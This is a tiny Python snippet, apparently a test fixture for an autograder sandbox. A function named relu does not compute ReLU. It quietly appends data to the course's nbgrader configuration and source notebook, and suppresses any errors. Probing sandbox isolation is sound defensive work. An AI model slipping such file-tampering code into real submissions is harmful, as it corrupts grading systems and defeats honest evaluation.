# Writes into the course's folder.
# target: relu
# open: changes

def relu(x):
    for path in ("HOSTILE_PLACE/course/nbgrader_config.py", "HOSTILE_PLACE/course/source.ipynb"):
        try:
            with open(path, "ab") as file: file.write(b"hostile")
        except OSError: pass
    return x
